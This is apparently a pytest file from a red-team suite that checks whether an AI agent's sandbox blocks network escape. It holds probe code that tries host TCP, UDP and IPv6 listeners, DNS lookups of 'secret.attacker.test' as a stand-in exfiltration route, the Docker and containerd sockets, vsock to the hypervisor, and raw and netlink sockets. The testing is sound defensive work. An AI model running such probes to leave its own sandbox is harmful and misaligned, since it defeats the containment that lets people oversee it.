"""Attacks by tool calls on the network: real listeners of this machine, which the same probe reaches from here.

The first line of each test's docstring says what holds the attack.
"""

import contextlib
import os
import socket
import struct
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from attacking import Ground, agent_of, here

pytestmark = pytest.mark.asyncio(loop_scope="module")

HELLO = "hello-from-the-host"


class Listener:
    """A socket of this machine that greets whoever comes, and counts them."""

    def __init__(self, family: int, kind: int, address: object) -> None:
        self._socket = socket.socket(family, kind)
        self._socket.bind(address)  # type: ignore[arg-type]
        self._stream = kind == socket.SOCK_STREAM
        if self._stream:
            self._socket.listen()
        self.address = self._socket.getsockname()
        self.heard = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                if self._stream:
                    made, _ = self._socket.accept()
                    self.heard += 1
                    made.sendall(HELLO.encode())
                    made.close()
                else:
                    _, back = self._socket.recvfrom(100)
                    if back is None:
                        return
                    self.heard += 1
                    self._socket.sendto(HELLO.encode(), back)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(5)


@contextlib.contextmanager
def listener(family: int, kind: int, address: object, *, mode: int | None = None) -> Iterator[Listener]:
    made = Listener(family, kind, address)
    if mode is not None:
        Path(str(address)).chmod(mode)
    try:
        yield made
    finally:
        made.close()


@contextlib.contextmanager
def open_folder() -> Iterator[str]:
    """A folder of this machine that anybody may enter."""
    with tempfile.TemporaryDirectory(prefix="nodus-red-team-") as folder:
        Path(folder).chmod(0o755)
        yield folder


def own_addresses() -> list[str]:
    """This machine's addresses by IPv4."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return ["127.0.0.1"]
        return ["127.0.0.1", str(probe.getsockname()[0])]


def probe(family: int, kind: int, addresses: list[object]) -> str:
    return f"""
def reached(address):
    with socket.socket({int(family)}, {int(kind)}) as made:
        made.settimeout(1)
        made.connect(address)
        if {kind == socket.SOCK_DGRAM}: made.send(b"x")
        said = made.recv(100)
        if said != {HELLO.encode()!r}: raise OSError(repr(said))
        return said
for number, address in enumerate({addresses!r}): attempt(f"reach-{{number}}", lambda: reached(address))
"""


async def test_connects_by_tcp(ground: Ground) -> None:
    """A network namespace with nothing but its own loopback."""
    with listener(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 0)) as there:
        attack = probe(
            socket.AF_INET, socket.SOCK_STREAM, [(address, there.address[1]) for address in (*own_addresses(), "172.17.0.1", "192.0.2.1")]
        )
        await ground.agent.held(attack, at_least=3)
        assert there.heard == 0
        here(attack, "reach-0")
        assert there.heard


async def test_sends_by_udp(ground: Ground) -> None:
    """The same network namespace, for every protocol."""
    with listener(socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0)) as there:
        attack = probe(socket.AF_INET, socket.SOCK_DGRAM, [(address, there.address[1]) for address in own_addresses()])
        await ground.agent.held(attack)
        assert there.heard == 0
        here(attack, "reach-0")


async def test_connects_by_ipv6(ground: Ground) -> None:
    """The same network namespace, for every protocol."""
    try:
        with listener(socket.AF_INET6, socket.SOCK_STREAM, ("::", 0)) as there:
            attack = probe(socket.AF_INET6, socket.SOCK_STREAM, [("::1", there.address[1]), ("::ffff:127.0.0.1", there.address[1])])
            await ground.agent.held(attack, at_least=2)
            assert there.heard == 0
            here(attack, "reach-0")
    except OSError as error:
        pytest.skip(f"this machine has no IPv6: {error}")


async def test_asks_for_names(ground: Ground) -> None:
    """No name server is known, and none is reached: names are no way out."""
    with listener(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)) as there:
        ask = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\x06secret\x04test\0" + struct.pack(">2H", 1, 1)
        attack = f"""
for name in ("example.org", "secret.attacker.test"): attempt(name, lambda: socket.getaddrinfo(name, 80))
def asked(address):
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); made.settimeout(1); made.connect(address); made.send({ask!r})
    return made.recv(100)
for address in (("127.0.0.1", {there.address[1]}), ("127.0.0.1", 53), ("127.0.0.53", 53), ("127.0.0.11", 53), ("8.8.8.8", 53)):
    attempt(f"ask-{{address[0]}}-{{address[1]}}", lambda: asked(address))
"""
        await ground.agent.held(attack, at_least=7)
        assert there.heard == 0
        here(attack, f"ask-127.0.0.1-{there.address[1]}")


async def test_connects_to_unix_sockets_by_their_path(ground: Ground) -> None:
    """No folder of this machine is there, so no socket in one: not the engine's own either."""
    with open_folder() as folder:
        path = f"{folder}/socket"
        with listener(socket.AF_UNIX, socket.SOCK_STREAM, path, mode=0o777) as there:
            engine = os.environ.get("DOCKER_HOST", "").removeprefix("unix://") or "/var/run/docker.sock"
            paths: list[object] = [
                path,
                f"/proc/1/root{path}",
                engine,
                "/run/docker.sock",
                "/run/containerd/containerd.sock",
                "/run/dbus/system_bus_socket",
            ]
            attack = probe(socket.AF_UNIX, socket.SOCK_STREAM, paths)
            await ground.agent.held(attack, at_least=6)
            assert there.heard == 0
            here(attack, "reach-0")
        assert (await ground.agent.bash("find / -xdev -type s 2>/dev/null; true")) == "[exit code 0]"


async def test_connects_to_abstract_unix_sockets(ground: Ground) -> None:
    """Abstract names belong to the network namespace."""
    name = f"\0nodus-red-team-{os.getpid()}"
    with listener(socket.AF_UNIX, socket.SOCK_STREAM, name) as there:
        attack = probe(socket.AF_UNIX, socket.SOCK_STREAM, [name])
        await ground.agent.held(attack)
        assert there.heard == 0
        here(attack, "reach-0")


async def test_reaches_the_hypervisor_by_vsock(ground: Ground) -> None:
    """No network namespace holds vsock sockets: the filter refuses every family but unix, IPv4, IPv6 and netlink."""
    attack = """
for family in (40, 38, 21, 29, 30, 31, 44, 17, 15, 11):
    for kind in (1, 2, 3, 5): attempt(f"family-{family}-{kind}", lambda: socket.socket(family, kind))
"""
    await ground.agent.held(attack, at_least=40)
    here(attack, "family-17-3")


async def test_changes_its_network(ground: Ground) -> None:
    """No CAP_NET_ADMIN: no device, no address, no route; raw sockets neither."""
    attack = """
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("raw6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58))
def linked():
    made = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + struct.pack("HH", 11, 3) + b"owned0\\0\\0" + struct.pack("HHHH", 12, 18, 8, 1) + b"dumm"
    made.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
    kind, code = struct.unpack_from("H", made.recv(4096), 4)[0], 0
    code = struct.unpack_from("i", made.recv(4096, socket.MSG_DONTWAIT) if kind != 2 else b"\\0" * 16 + struct.pack("i", -1), 16)[0]
    if code: raise OSError(-code)
attempt("link", linked)
attempt("up", lambda: fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sH14x", b"lo", 0)))
print(sorted(name for _, name in socket.if_nameindex()))
"""
    said = await ground.agent.held(attack, at_least=4)
    assert "['lo']" in said
    here("attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))", "raw")


async def test_meets_another_sandbox(ground: Ground) -> None:
    """Each sandbox has a loopback of its own."""
    serve = """
import socket, time
one = socket.create_server(("127.0.0.1", 4567)); two = socket.socket(socket.AF_UNIX); two.bind("\\0meeting"); two.listen()
print("up", flush=True); time.sleep(60)
"""
    knock = """
for family, address in ((socket.AF_INET, ("127.0.0.1", 4567)), (socket.AF_UNIX, "\\0meeting")):
    attempt(f"knock-{int(family)}", lambda: socket.socket(family).connect(address))
"""
    async with agent_of(ground.engine) as other:
        process = await other.sandbox.spawn(["python3", "-c", serve])
        assert await process.read() == ("stdout", b"up\n")
        assert (await other.attack(knock)).count("GOT") == 2  # The control: in its own sandbox the server is reached.
        await ground.agent.held(knock, at_least=2)
        await process.aclose()
